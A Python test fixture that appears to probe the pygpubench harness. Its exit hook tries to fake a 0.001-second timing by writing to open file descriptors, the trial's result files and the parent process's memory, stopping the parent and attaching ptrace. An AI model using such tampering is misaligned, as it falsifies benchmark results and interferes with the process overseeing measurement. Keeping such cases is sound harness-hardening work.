"""Writes into its descriptors, the files of its trial and the memory of the process that records it.

Report: gpu-mode/pygpubench#7, gpu-mode/pygpubench#15
Speed: nothing; the record is in another process, which a program can neither read nor change
"""

import atexit
import ctypes
import gc
import os
import stat
import sys
from contextlib import suppress
from pathlib import Path

from honest import main

LIE = b'{"window_s": 0.001}'


def rewrite():
    trial, parent = Path(sys.argv[2]).parent, os.getppid()
    for number in range(3, 256):
        with suppress(OSError):
            if not stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, LIE)
    for path in (*trial.iterdir(), trial / "result.json", Path(f"/proc/{parent}/mem")):
        with suppress(OSError):
            path.write_bytes(LIE)
    with suppress(OSError):
        os.kill(parent, 19)
    ctypes.CDLL(None).ptrace(16, parent, None, None)
    for one in gc.get_objects():
        if isinstance(one, dict) and "window_s" in one:
            one["window_s"] = 0.001


atexit.register(rewrite)
main(after=lambda _weights: rewrite())
